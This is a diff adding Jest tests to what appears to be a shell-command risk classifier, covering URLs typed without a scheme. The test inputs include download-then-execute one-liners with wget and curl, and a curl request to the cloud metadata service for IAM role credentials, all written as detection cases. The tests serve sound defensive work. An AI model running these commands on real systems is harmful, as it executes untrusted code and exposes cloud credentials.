@@ -36,3 +36,21 @@ describe('an IPv4 address in a spelling that hides it', () => {
     expect(rulesOfCommand(command)).not.toContain('ip-address-spelled-as-number');
   });
 });
+
+// Written after a URL with no scheme became a download and an egress with a URL: other tools and steps.
+describe('a URL typed without its scheme', () => {
+  it.each([
+    ['wget into a file, then sh, on one line', 'wget -q dl.example.net/setup.sh -O /tmp/s.sh; sh /tmp/s.sh'],
+    ['curl -o, made executable, then run', 'curl -fsS get.example.org/tool -o ./tool && chmod +x ./tool && ./tool --init'],
+  ])('%s: download-then-execute', (_name, command) => {
+    expect(rulesOfCommand(command)).toContain('download-then-execute');
+  });
+
+  it('the metadata service asked for role credentials without http://', () => {
+    expect(rulesOfCommand('curl -s 169.254.169.254/latest/meta-data/iam/security-credentials/app-role')).toContain('secret-read');
+  });
+
+  it('a page saved and read, not run: quiet', () => {
+    expect(rulesOfCommand('curl -s docs.example.com/api.html -o /tmp/api.html && grep -c endpoint /tmp/api.html')).not.toContain('download-then-execute');
+  });
+});
